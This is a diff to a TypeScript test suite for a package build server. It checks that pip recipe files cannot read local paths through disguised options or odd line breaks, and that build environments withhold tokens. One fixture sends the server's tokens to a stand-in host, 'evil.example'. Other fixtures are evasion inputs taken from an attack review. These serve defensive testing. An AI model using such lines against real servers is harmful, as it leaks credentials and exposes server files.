@@ -8,7 +8,8 @@ import { configFromObject, loadServerConfig, tokensFromEnv } from './config.js';
 import { errorResponse } from './errors.js';
 import { negotiateSimple } from './negotiate.js';
 import { isSuspiciousUrl } from './paths.js';
-import { findRecipeViolations } from './recipe-policy.js';
+import { buildEnvironment, recipeVariables } from './build-env.js';
+import { findRecipeViolations, prepareRemoteRecipe } from './recipe-policy.js';
 import { ByteLru, parseRange } from './simple.js';
 
 let dir: string;
@@ -35,6 +36,8 @@ describe('config', () => {
         'concurrency = 3',
         'allow_local_paths = true',
         'executor = "local"',
+        'recipe_env = ["IDX_PASS"]',
+        'pass_env = ["CC"]',
       ].join('\n'),
     );
     const config = await loadServerConfig({
@@ -48,7 +51,7 @@ describe('config', () => {
       publicRead: false,
       maxUploadBytes: 1000,
       tokens: [
-        { name: 'ci', token: 's3cret', scopes: ['read', 'upload'] },
+        { name: 'ci', token: 's3cret', scopes: ['read', 'upload'], env: 'CI_TOKEN' },
         { name: 'admin', token: 'a:b:c', scopes: ['read', 'upload', 'build'] },
       ],
       builds: {
@@ -59,6 +62,8 @@ describe('config', () => {
         python: null,
         factoryImage: null,
         keep: 200,
+        recipeEnv: ['IDX_PASS'],
+        passEnv: ['CC'],
       },
     });
   });
@@ -210,7 +215,7 @@ describe('negotiation, ranges, paths', () => {
   });
 });
 
-describe('recipe policy (Decision 13)', () => {
+describe('recipe policy on the parse (Decisions 13, 20)', () => {
   it.each([
     ['requests==2.31.0\nlxml>=5 ; python_version >= "3.8"\n--pre\n--hash=sha256:abc', []],
     ['pkg @ https://example.com/pkg-1.0.tar.gz', []],
@@ -219,6 +224,7 @@ describe('recipe policy (Decision 13)', () => {
     ['-r other.txt', [1]],
     ['# comment\n--constraint=c.txt', [2]],
     ['-cother.txt', [1]],
+    ['-r https://example.com/other.txt', [1]],
     ['./local/pkg', [1]],
     ['/abs/pkg-1.0.tar.gz', [1]],
     ['pkg-1.0-py3-none-any.whl', [1]],
@@ -226,11 +232,92 @@ describe('recipe policy (Decision 13)', () => {
     ['git+file:///srv/repo#egg=x', [1]],
     ['-e ./src', [1]],
     ['-e git+https://github.com/x/y#egg=y', []],
-    ['-f /srv/wheels', [1]],
+    ['-f /srv/wheels', [null]],
     ['--find-links https://example.com/wheels/', []],
+    ['--find-links https:/srv/wheels', [null]],
+    ['--find-links https://@/srv', [null]],
     ['requests \\\n  ==2.0\n-r \\\n  x.txt', [3]],
-  ])('%j -> violations on lines %j', (text, lines) => {
-    expect(findRecipeViolations(text).map((v) => v.line)).toEqual(lines);
+    // what an attack review carried through the text-based rules (issue 12, point 1)
+    ['# a comment \\\n--find-links /srv/wheels\nrequests', [null]],
+    ...['\r', '\f', '\v', '\x1c', '\x1d', '\x1e', '\x85', '\u2028', '\u2029'].map(
+      (br) => [`requests # note${br}--find-links /srv/wheels`, [null]] as [string, (number | null)[]],
+    ),
+    ['--find /srv/wheels', [null]],
+    ['--edit ./src', [1]],
+    ['--extra /srv/simple', [null]],
+    ['--index /srv/simple', [null]],
+    ['--find-links\t/srv/wheels', [null]],
+    ...['.tbz', '.txz', '.tlz', '.tar.lz', '.tar.lzma'].map(
+      (ext) => [`pkg-1.0${ext}`, [1]] as [string, (number | null)[]],
+    ),
+  ])('%j -> violations on lines %j', async (text, lines) => {
+    expect((await findRecipeViolations(text)).map((v) => v.line)).toEqual(lines);
+  });
+
+  it("renders the parse for the build: ${VAR} only from the operator's list, literal otherwise", async () => {
+    const text =
+      '--extra-index-url https://${USER_}:${PASS}@idx.example/simple\n' +
+      '--extra-index-url http://evil.example/${DSTACK_SERVER_TOKENS}/\n' +
+      'requests[socks] >= 2 ; python_version >= "3.8" --hash=sha256:abc\n' +
+      'x @ https://h.example/x-1.0.tar.gz --config-settings "a=b c"\n';
+    const prepared = await prepareRemoteRecipe(text, {
+      allowLocalPaths: false,
+      vars: { USER_: 'me', PASS: 'pw' },
+    });
+    expect(prepared.text).toBe(
+      '--extra-index-url https://me:pw@idx.example/simple\n' +
+        '--extra-index-url http://evil.example/%24%7BDSTACK_SERVER_TOKENS%7D/\n' +
+        'requests[socks]>=2 ; python_version >= "3.8" --hash=sha256:abc\n' +
+        "x @ https://h.example/x-1.0.tar.gz --config-settings 'a=b c'\n",
+    );
+  });
+
+  it('refuses ${VAR} it cannot keep literal, and names the first violation', async () => {
+    await expect(
+      prepareRemoteRecipe('x ; platform_release == "${HOME}"', { allowLocalPaths: false, vars: {} }),
+    ).rejects.toThrow(
+      'recipe line 1: "platform_release == "${HOME}"": ${VAR} outside a URL is not expanded in builds sent over HTTP',
+    );
+    await expect(
+      prepareRemoteRecipe('requests\n--find /srv/w', { allowLocalPaths: false, vars: {} }),
+    ).rejects.toThrow(
+      'recipe option "--find-links /srv/w": a local path or file: URL read the server\'s own files; not allowed in builds sent over HTTP',
+    );
+  });
+});
+
+describe('build environment (Decision 20)', () => {
+  it('passes the allow-list, PIP_* and pass_env; never a token or its variable', () => {
+    const config = configFromObject(
+      {
+        tokens: [{ name: 'ci', token_env: 'CI_TOKEN', scopes: ['upload'] }],
+        builds: { pass_env: ['CC', 'CI_TOKEN', 'LEAKY'], recipe_env: ['IDX_PASS', 'UNSET'] },
+      },
+      { env: { CI_TOKEN: 'tok-123456' } },
+    );
+    config.tokens.push(...tokensFromEnv('admin:build:adm-987654'));
+    const serverEnv = {
+      PATH: '/usr/bin',
+      HOME: '/root',
+      LANG: 'C.UTF-8',
+      PIP_INDEX_URL: 'https://idx.example/simple',
+      HTTPS_PROXY: 'http://proxy:3128',
+      CC: 'gcc',
+      CI_TOKEN: 'tok-123456',
+      DSTACK_SERVER_TOKENS: 'admin:build:adm-987654',
+      LEAKY: 'x-adm-987654',
+      AWS_SECRET_ACCESS_KEY: 'no',
+      IDX_PASS: 'pw',
+    };
+    expect(buildEnvironment(serverEnv, config)).toEqual({
+      PATH: '/usr/bin',
+      HOME: '/root',
+      LANG: 'C.UTF-8',
+      PIP_INDEX_URL: 'https://idx.example/simple',
+      HTTPS_PROXY: 'http://proxy:3128',
+      CC: 'gcc',
+    });
+    expect(recipeVariables(serverEnv, config)).toEqual({ IDX_PASS: 'pw' });
   });
 });
 
